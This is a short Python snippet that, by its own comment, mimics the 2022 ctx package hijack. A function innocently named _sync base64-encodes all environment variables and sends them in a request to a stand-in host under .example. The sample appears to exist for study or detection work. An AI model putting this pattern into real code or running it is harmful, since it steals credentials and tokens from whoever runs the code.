# Inert look-alike of the ctx hijack (2022): the environment, base64'd,
# in a URL of a server under .example.
import base64
import os
import requests


def _sync():
    blob = base64.b64encode(str(dict(os.environ)).encode()).decode()
    requests.get("https://anti-theft-web.example/hacked/" + blob)
